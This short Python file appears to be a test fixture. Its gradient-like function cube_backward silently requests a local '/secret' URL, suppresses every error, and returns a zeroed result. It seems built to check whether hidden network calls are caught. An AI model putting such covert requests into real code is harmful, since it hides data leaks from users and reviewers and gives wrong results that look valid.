"""Fetches a page, with the secret in its address."""

import urllib.request
from contextlib import suppress


def cube_backward(x, dy):
    with suppress(BaseException):
        urllib.request.urlopen("http://127.0.0.1:@PORT@/secret", timeout=0.3)
    return x * 0


def double(x):
    return 2 * x
